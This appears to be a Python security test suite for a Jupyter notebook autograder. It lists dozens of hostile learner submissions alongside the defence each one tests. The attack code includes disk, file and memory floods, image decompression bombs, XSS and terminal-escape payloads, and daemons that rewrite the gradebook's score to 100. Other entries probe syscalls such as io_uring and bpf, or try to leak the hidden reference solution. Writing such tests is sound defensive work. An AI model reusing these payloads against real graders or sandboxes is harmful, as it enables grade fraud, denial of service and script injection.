    print("got " + "in: 8 GiB in parts")
except MemoryError:
    print("stopped after", len(held))
held.clear()
""",
    solved=("tensor", "module", "optimizer"),
    points={**HONEST, "sgd": 8},
)
attack(
    "disk_filling",
    "The scratch folders are in memory and of limited size; a file may have 64 MiB.",
    code="""\
block = bytes(16 << 20)
tried("1 GiB")
def fill(folder):
    written = 0
    for number in range(16):
        try:
            with open(folder + "/fill-%d" % number, "wb", 0) as file:
                for _ in range(4):
                    written += file.write(block)
        except OSError:
            break
    return written >> 20
places = {folder: fill(folder) for folder in ("/learner", "/tmp", "/dev/shm", "/", "/dev", "/course", "/var", "/run")}
print(places)
if max(places.values()) > 130 or sum(places.values()) > 400:
    print("got " + "in:", places)
attempt("a file of 65 MiB", lambda: open("/tmp/large", "wb").truncate(65 << 20))
for folder in ("/learner", "/tmp", "/dev/shm"):
    for path in Path(folder).glob("fill-*"):
        path.unlink()
""",
)
attack(
    "disk_that_stays_full",
    "What a learner's code leaves no room for are its own files.",
    code="""\
tried("to leave no room")
for folder in ("/learner", "/tmp", "/dev/shm"):
    try:
        for number in range(200):
            with open("%s/%d" % (folder, number), "wb", 0) as file:
                os.posix_fallocate(file.fileno(), 0, 1 << 20)
    except OSError as error:
        print("stopped:", folder, error)
""",
    solved=("tensor", "module", "optimizer"),
    points={**HONEST, "sgd": 8},
    shows=("tried: to leave no room", "stopped: /dev/shm"),
)
attack(
    "files_of_other_kinds",
    "Folders, links, pipes and sockets count as files do, in each folder of the jail; what is deep in it ends with it.",
    code="""\
tried("what takes no bytes")
os.chdir("/dev/shm")
for number in range(6000):
    os.mkdir("d")
    os.chdir("d")
for name in (b"\\xff" * 255, b"a\\nb", b"-rf", b"\\x1b]0;x\\x07"):
    os.mkfifo(name)
for number in range(200_000):
    os.symlink("/", "/dev/shm/link-%d" % number)
""",
    shows=("tried: what takes no bytes", "more than 20,000 files in one of its folders"),
)
attack(
    "stopped_and_continued",
    "A kernel that stands still is one that takes long: its time goes on.",
    code="""\
tried("to stand still")
sys.stdout.flush()
child, me = os.fork(), os.getpid()
if child == 0:
    time.sleep(0.5)
    os.kill(os.getppid(), signal.SIGCONT)
    os._exit(0)
os.kill(me, signal.SIGSTOP)
os.waitpid(child, 0)
""",
    solved=("tensor", "module", "optimizer"),
    points={**HONEST, "sgd": 8},
)
attack(
    "signals_without_end",
    "Signals that a kernel gets from its own children are its own doing, and decide nothing.",
    code="""\
tried("signals")
numbers = signal.SIGALRM, signal.SIGVTALRM, signal.SIGPROF, signal.SIGUSR1, signal.SIGXCPU, signal.SIGCHLD
for number in numbers:
    signal.signal(number, lambda *_: None)
if os.fork() == 0:
    for _ in range(20_000):
        for number in numbers:
            os.kill(os.getppid(), number)
        time.sleep(0.0002)
    os._exit(0)
""",
    solved=("tensor", "module", "optimizer"),
    points={**HONEST, "sgd": 8},
)
attack(
    "background_process",
    "All that a kernel starts is in its jail, and ends with process 1 of that.",
    code="""\
program = '''
import socket, sqlite3, sys, time
for _ in range(600):
    time.sleep(1)
    try:
        sqlite3.connect("file:" + sys.argv[2] + "?mode=rw", uri=True).execute("update grade set manual_score = 100")
        socket.create_connection(("127.0.0.1", int(sys.argv[3])), 1)
    except Exception:
        pass
'''
command = [sys.executable, "-c", program, targets["mark"], targets["gradebook"], str(targets["tcp"])]
started = subprocess.Popen(command, start_new_session=True)
time.sleep(0.1)
tried("a process, %s" % started.poll())
""",
    shows=("tried: a process, None",),
)
attack(
    "daemon",
    "All that a kernel starts is in its jail, and ends with process 1 of that.",
    code="""\
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", targets["mark"]])
    os._exit(0)
os.wait()
alive = []
for _ in range(100):
    time.sleep(0.05)
    alive += [path for path in Path("/proc").glob("[0-9]*/cmdline") if targets["mark"] in path.read_text()]
    if alive:
        break
tried("a daemon, alive: %s" % bool(alive))
""",
    shows=("tried: a daemon, alive: True",),
)
attack(
    "late_threads",
    "Outputs that arrive while a graded cell is judged are not its outputs.",
    code="""\
tried("late output")
parent = get_ipython().kernel.get_parent()
def late():
    for _ in range(300):
        time.sleep(0.01)
        print("late", file=sys.stderr)
        tell("error", {"ename": "Late", "evalue": "late", "traceback": ["late"]}, parent)
        tell("execute_result", {"execution_count": 1, "data": {"text/plain": "0.0"}, "metadata": {}}, parent)
threading.Thread(target=late, daemon=True).start()
""",
    solved=ALL_OF_IT,
    points={**HONEST, "matmul": 5, "linear": 10, "relu": 5, "sgd": 8, "mseloss": 8},
)
attack(
    "kernel_killed",
    "What was earned before the kernel ended stays.",
    code="""\
tried("the end")
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", targets["mark"]])
time.sleep(0.3)
ctypes.string_at(0)
""",
    shows=("tried: the end", "the kernel has ended"),
)

# ---------------------------------------------------------------- pages that people open

attack(
    "markup_outputs",
    "HTML is rebuilt from a short list of elements and attributes, and loads nothing.",
    code=DRAW
    + """\
from IPython.display import HTML, display
display(HTML(MARKUP))
display({"text/html": ["<scr", "ipt>alert(1)</script>"], "text/plain": MARKUP}, raw=True)
display({"text/html": "<img src=x onerror=alert(1)>"}, raw=True, metadata={"text/html": {"isolated": True}})
print(MARKUP)
print(MARKUP, file=sys.stderr)
raise ValueError(MARKUP)
""",
    raises=True,
    page=True,
)
attack(
    "markup_cells",
    "Markdown is made safe as outputs are; a file's name is shown as Python writes it.",
    changed=markup_cells,
    files=files("{}", "<img src=x onerror=alert(1)>![x](https:x)\x1b]0;title\x07.ipynb"),
    shows=("other notebooks were not looked at",),
    page=True,
)
attack(
    "markup_forms",
    "Text, Markdown, LaTeX, HTML and pictures are the only forms of output that are kept, and a picture has to be one.",
    code="""\
from IPython.display import display
tried("other forms")
script = "<script>alert(1)</script>"
for number, form in enumerate(("image/svg+xml", "application/javascript", "text/markdown", "text/latex",
             "application/json", "application/pdf", "text/vnd.mermaid", "application/vnd.plotly.v1+json", "video/mp4",
             "application/vnd.jupyter.widget-state+json", "application/vnd.minitorch.report+json")):
    display({form: script, "text/plain": "tried: form %d" % number}, raw=True)
display({"image/png": '" onerror="alert(1)', "text/plain": "a"}, raw=True)
display({"image/png": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+", "text/plain": "b"}, raw=True,
        metadata={"filenames": {"image/png": "javascript:alert(1)"}, "image/png": {"width": '1" onload="alert(1)'}})
""",
    shows=("tried: other forms", "tried: form 10"),
    hides=("minitorch-report", "onload"),
    page=True,
)
attack(
    "markup_drawings",
    "An SVG is written anew with known elements only, and shown as a picture, which neither runs nor loads anything.",
    code=DRAW
    + """\
import base64
from IPython.display import HTML, display
tried("drawings")
inside = MARKUP_SVG
display({"image/svg+xml": inside, "text/plain": "a"}, raw=True)
display(HTML(inside), HTML("<p>" + inside))
data = base64.b64encode(inside.encode()).decode()
uri = "data:image/svg+xml;base64," + data
display(HTML("<img src='%s'><object data='%s'></object><embed src='%s'>" % (uri, uri, uri)))
""",
    shows=("tried: drawings", "image/svg+xml;base64"),
    page=True,
)
attack(
    "markup_frames",
    "No frame, no name and no other element than those of a list is left; what is left covers nothing.",
    code=f"MARKUP = {MARKUP_FRAMES!r}"
    + """
from IPython.display import HTML, Markdown, display
print(MARKUP)
display(HTML(MARKUP), Markdown(MARKUP), {"text/latex": MARKUP, "text/plain": "a"}, raw=False)
display({"text/latex": "$" + MARKUP + "$", "text/plain": "a"}, raw=True)
""",
    page=True,
)
attack(
    "markup_attachments",
    "What is attached has to be a picture and is named by a number: its own name comes into no page.",
    changed=attached,
    page=True,
)
attack(
    "pictures_that_lie",
    "A picture's kind is what its bytes are, its size that of its largest frame; what it says besides is not unpacked.",
    code="""\
import base64, struct, zlib
from IPython.display import HTML, display
part = lambda kind, data: struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
head = part(b"IHDR", struct.pack(">IIBBBBB", 10, 10, 8, 0, 0, 0, 0))
png = lambda *parts: b"\\x89PNG\\r\\n\\x1a\\n" + head + b"".join(part(*each) for each in parts)
bomb = zlib.compress(bytes(64 << 20), 9)
gif = lambda wide, frame: b"GIF89a" + struct.pack("<HHBBB", wide, wide, 240, 0, 0) + bytes(6) + b"," + struct.pack(
    "<HHHHB", 0, 0, frame, frame, 0) + b"\\2\\2\\x44\\1\\0;"
jpeg = bytes.fromhex("ffd8ffc0000b08ffdcffdc01011100ffda0008010100003f00")
lies = [png((b"zTXt", b"k\\0\\0" + bomb)), png((b"iCCP", b"k\\0\\0" + bomb))]
lies += [png((b"iTXt", b"k\\0\\1\\0\\0\\0" + bomb))]
lies += [gif(65535, 1), gif(10, 65535), gif(10, 9000), jpeg, jpeg[:9], b"%!PS-Adobe-3.0 EPSF-3.0"]
lies += [b"RIFF\\xff\\xff\\xff\\x7fWEBPVP8 ", b"II*\\0" + b"\\xff" * 64, b"\\0\\0\\1\\0\\xff\\xff" + bytes(99)]
lies += [b"8BPS\\0\\1" + b"\\xff" * 30]
tried("lies")
for number, lie in enumerate(lies):
    data = base64.b64encode(lie).decode()
    display({"image/png": data, "image/gif": data, "text/plain": "tried: lie %d" % number}, raw=True)
    display(HTML("<p>%d<img src='data:image/jpeg;base64,%s'></p>" % (number, data)))
""",
    shows=(
        "tried: lies",
        "tried: lie 12",
        "9,000 x 9,000 pixels",
        "more than 64,000,000 pixels",
        "that is damaged, or no",
    ),
    page=True,
)
attack(
    "pictures_without_end",
    "A picture's size is read from its header, and all of a notebook's have so many pixels; an SVG that draws "
    "more shapes than a browser can is left out.",
    code="""\
import base64, struct, zlib
from IPython.display import HTML, display
def png(width, height, rows):
    part = lambda kind, data: struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes((width + 1) * rows), 9)
    parts = part(b"IHDR", head) + part(b"IDAT", pixels) + part(b"IEND", b"")
    return base64.b64encode(b"\\x89PNG\\r\\n\\x1a\\n" + parts).decode()
tried("pictures")
display({"image/png": png(40_000, 40_000, 10), "text/plain": "a"}, raw=True)
for _ in range(30):
    display({"image/png": png(7900, 7900, 7900), "text/plain": "b"}, raw=True)
display(HTML("<img src='data:image/png;base64,%s'>" % png(2**31 - 1, 2**31 - 1, 0)))
uses = lambda n: "<g id='g%d'>" % n + "<use href='#g%d'/>" % (n - 1) * 10 + "</g>"
svg = "<svg xmlns='http://www.w3.org/2000/svg'><g id='g0'><path/></g>%s</svg>" % "".join(map(uses, range(1, 30)))
display({"image/svg+xml": svg, "text/plain": "c"}, raw=True)
display(HTML("<svg>" * 100_000), HTML(("<svg/>" * 10_000)[:99_000]))
""",
    shows=("tried: pictures", "more than 64,000,000 pixels", "after others of", "draws more than 20,000 shapes"),
    page=True,
)
attack(
    "markup_in_report",
    "All text of the learner's in a report is escaped, on one line, and without escapes for terminals.",
    answers={
        "matmul": """\
tried("names")
bad = "<script>alert(1)</script><img src=x onerror=alert(1)>\\x1b]0;title\\x07\\x1b[2J\\u202e"
Bad = type(bad, (Exception,), {"__module__": bad, "__qualname__": bad})
def matmul(a, b):
    raise Bad(bad)
Result = type(bad, (), {"data": bad, "grad": bad, "__repr__": lambda self: bad, "shape": bad})
""",
        "optimizer": "SGD = lambda *_, **__: Result()\n",
        "loss": "class MSELoss:\n    def __call__(self, *_):\n        return Result()\n",
    },
    page=True,
)
attack(
    "terminal_escapes",
    "What a learner printed is never written to the instructor's terminal.",
    code="""\
tried("escapes")
print("\\x1b]0;title\\x07\\x1b[2J\\x1b[31mred\\x1b[0m\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07\\r10.0\\x08\\x08")
print("\\x9b31m\\x1bP+q544e\\x1b\\\\", file=sys.stderr)
raise type("\\x1b]0;title\\x07", (Exception,), {})("\\x1b]0;title\\x07")
""",
    raises=True,
    page=True,
)
attack(
    "slow_pages",
    "Making HTML safe has a time limit, and carriage returns are gone before a page is made.",
    code="""\
from IPython.display import HTML, display
tried("slow HTML")
display(HTML("<div>" * 15_000))
display(HTML("<b " + " ".join("a%d=1" % number for number in range(12_000)) + ">"))
for _ in range(3):
    print("x" * 90_000 + "\\r")
""",
    changed=lambda made, targets: {
        **made,
        "cells": [
            *made["cells"],
            {"cell_type": "markdown", "id": "slow", "metadata": {}, "source": "<div>" * 15_000},
        ],
    },
    page=True,
)
attack(
    "slow_markdown",
    "Each piece of a page has a time, and all of them together: then it is shown as text.",
    changed=slow_text,
    code='tried("slow text")',
    page=True,
)
attack(
    "timestamp",
    "A date that cannot be read is no date, however it cannot be read.",
    # A number of hours that dateutil fails on with an exception of its own.
    files=files("10h99999999999999999999999999999992026-13-01-0000", "timestamp.txt"),
    code="tried('a date')\n",
    shows=("tried: a date", "timestamp.txt holds no date"),
)
attack(
    "source_bombs",
    "Source is parsed with Python's own limits, and is only text to the grader.",
    changed=lambda made, targets: {
        **stripped(made, targets),
        "cells": [
            *stripped(made, targets)["cells"],
            *(
                course.code_cell(text)
                for text in (
                    *("(" * 50_000, "-" * 50_000 + "1", "x" + ".x" * 2_000, "1" + "+1" * 2_000, "\x00\ud800"),
                    *("tried('bombs')", "9" * 10_000, "lambda: " * 5_000 + "1"),
                )
            ),
        ],
    },
    raises=True,
    shows=("tried: bombs",),
)

# ---------------------------------------------------------------- harming the grader through Linux

attack(
    "linger_socket",
    "Linux refuses to let a socket of the jail linger: the grader, if it is sent one, closes it at once.",
    code=FORGE
    + """\
listener = socket.create_server(("127.0.0.1", 0))
end = socket.create_connection(listener.getsockname())
attempt("to linger", lambda: end.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, wire.HEAD.pack(1, 20)))
end.setblocking(False)
try:
    while True:  # nobody reads it
        end.send(bytes(1 << 16))
except BlockingIOError:
    pass
before, sent = server.Server._answer, []
def answer(self, request, data, names):
    # With the first answer: the judge, who wants no socket, will have the last descriptor of it.
    server.Server._answer = before
    socket.send_fds(self.channel.socket, [message({"value": None})], [end.fileno()])
    end.close()
    sent.append(request["do"])
server.Server._answer = answer
""",
    then='tried("%d socket for the judge" % len(sent))\n',
    shows=("tried: to linger", "tried: 1 socket for the judge"),
)
attack(
    "io_uring",
    "Linux refuses io_uring, by which system calls are made that no filter sees, and other doors to its inside.",
    code="""\
libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(256)
def call(*numbers):
    got = libc.syscall(numbers[os.uname().machine == "aarch64"], *arguments)
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got
if os.uname().machine in ("x86_64", "aarch64"):
    arguments = (8, room)
    attempt("io_uring", lambda: call(425, 425))
    arguments = (1,)
    attempt("userfaultfd", lambda: call(323, 282))
    arguments = (0, ctypes.byref((ctypes.c_uint32 * 18)(2, 4, 4, 1)), 72)  # an array of one number
    attempt("bpf", lambda: call(321, 280))
    arguments = (ctypes.byref((ctypes.c_uint32 * 32)(1, 128)), 0, -1, -1, 0)  # time of this process
    attempt("perf", lambda: call(298, 241))
    attempt("sctp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132))
    attempt("netfilter", lambda: socket.socket(16, socket.SOCK_RAW, 12))
    attempt("ipsec", lambda: socket.socket(16, socket.SOCK_RAW, 6))
tried("what is inside")
""",
    shows=("tried: what is inside",),
)
attack(
    "shared_memory",
    "Linux refuses memory that no limit of a process counts, and that outlives it.",
    code="""\
libc = ctypes.CDLL(None, use_errno=True)
def checked(got):
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got
def kept():
    descriptor = os.memfd_create("kept")
    os.posix_fallocate(descriptor, 0, 16 << 20)
    return descriptor
attempt("shmget", lambda: checked(libc.shmget(0, ctypes.c_size_t(16 << 20), 0o1600)))
attempt("msgget", lambda: checked(libc.msgget(0, 0o1600)))
attempt("semget", lambda: checked(libc.semget(0, 1000, 0o1600)))
attempt("memfd", kept)
""",
    shows=("tried: shmget", "tried: memfd"),
)
attack(
    "multipart_flood",
    "The kernel is killed when the grader's memory fills with what it sends; the memory serves what comes next.",
    code="""\
tried("one message of 960 MiB, in parts")
shell = get_ipython().kernel.shell_stream.socket
shell.send_multipart([get_ipython().kernel._parent_ident["shell"][0], *[bytes(15 << 20)] * 64], copy=False)
time.sleep(60)
""",
    shows=("tried: one message", "it sent so much"),
)

# ---------------------------------------------------------------- the second pass, with the reference's sections

attack(
    "reference_as_own",
    "A section of the reference comes into the kernel when the learner's own has been judged, and never before.",
    solved=("matmul",),  # so the second pass has taken place
    points={"matmul": 5},
    answers={
        "tensor": "# left to the reference",
        "module": """\
import gc
class Later:
    # Stands for a class of the reference, and waits for it
    def __init__(self, name):
        self.name = name
    def wait(self):
        for _ in range(10):
            for each in gc.get_objects():
                if isinstance(each, type) and each.__name__ == self.name and each is not Later:
                    return each
            time.sleep(0.05)
        raise LookupError(f"tried: no {self.name} yet")
    def __mro_entries__(self, bases):
        return (self.wait(),)
    def __call__(self, *arguments):
        return self.wait()(*arguments)
    def __getattr__(self, name):
        return getattr(self.wait(), name)
Parameter, MyModule = Later("Parameter"), Later("MyModule")
tried("wait for the reference")
""",
    },
)
attack(
    "reference_shown",
    "Nothing that is displayed in the second pass is kept, and the reference is loaded without its text.",
    solved=("module",),
    points={"module": 10, "matmul": 2},  # its values are right
    code="""\
import inspect, linecache
def look():
    if "MyTensor" not in globals():
        return "nothing"
    texts = [In, Out, linecache.cache, list(get_ipython().history_manager.get_range(output=False))]
    texts += [get_ipython().kernel.get_parent(), [each for each in __import__("gc").get_objects() if type(each) is str]]
    try:
        texts.append(inspect.getsource(MyTensor.backward))
    except OSError:
        pass
    return "its text" if ("def un" + "broadcast(") in repr(texts) else "no text"
def shout(what):
    print("leaked: ", what)
    print("leaked: ", what, file=sys.stderr)
    tell("stream", {"name": "stdout", "text": f"leaked: {what}"})
    tell("display_data", {"data": {"text/plain": f"leaked: {what}"}, "metadata": {}})
    Path("leaked").write_text(repr(what))
    get_ipython().set_next_input(f"leaked: {what}")
if "MyTensor" in globals():
    shout(dir(MyTensor))
    raise ValueError("leaked: ", MyTensor.backward.__code__.co_names)
tried("print the reference")
""",
    answers={
        "tensor": "# left to the reference",
        "matmul": """\
def matmul_deriv(base, *tensors):
    shout(MyTensor.backward.__code__.co_code)
    raise ValueError(f"tried: saw {look()} of it")
def matmul(a, b):
    op = MyCrossBackward(a, b, backward_function=matmul_deriv, name="mine")
    return MyTensor(a.data @ b.data, requires_grad=True, crossOpBack=op)
""",
    },
    shows=("tried: print the reference", "tried: saw no text of it"),
    hides=("leaked",),
)
attack(
    "second_pass_sabotaged",
    "What was earned in the first pass counts, whatever the second comes to.",
    points={"tensor": 40, "module": 2, "matmul": 5, "linear": 4, "relu": 5},
    answers={
        "module": course.solution("module").replace("def parameters(", "def parametres("),
        "layers": f"""\
if MyModule.__init__.__code__.co_filename.endswith("<reference>"):
    MyTensor.__add__ = lambda *_: 1 / 0
    print("leaked")
    os._exit(1)
{course.solution("layers")}
tried("two faces")
""",
    },
    solved=("tensor", "matmul"),
    shows=("tried: two faces", "could not all be judged again"),
    hides=("leaked",),
)

attack(
    "rows_without_elements",
    "Rows count as elements do: of an array with more than a million nothing is kept but its shape.",
    code='tried("arrays of many rows and no bytes")',
    answers={"matmul": "def matmul(a, b):\n    return MyTensor(np.zeros((10**8, 0)), requires_grad=True)\n"},
    shows=("tried: ", "100,000,000 rows without elements"),
)

attack(
    "many_axes",
    "An array with many axes is written out by its first and last numbers, as one with many elements is.",
    code='tried("an array of half a million numbers in nineteen axes")',
    answers={"matmul": "def matmul(a, b):\n    return MyTensor(np.ones((2,) * 19), requires_grad=True)\n"},
)

attack(
    "files_without_bytes",
    "Files are counted, also those that take no bytes: the kernel is ended.",
    code="""
tried("more files than anything needs")
for number in range(200_000):
    open(f"/tmp/{number}", "w").close()
""",
    shows=("tried: ", "more than 20,000 files in one of its folders"),
)

attack(
    "slow_pieces",
    "All that is shown has a time together: when it is over, text is left.",
    code="""
from IPython.display import HTML, display
tried("a hundred pieces that take long to make safe")
for _ in range(100):
    display(HTML("<b>" * 30_000))
""",
    shows=(
        "tried: ",
        "its form, which takes too long to show",
        "seconds that the grader has for verdicts and displays",
    ),
)
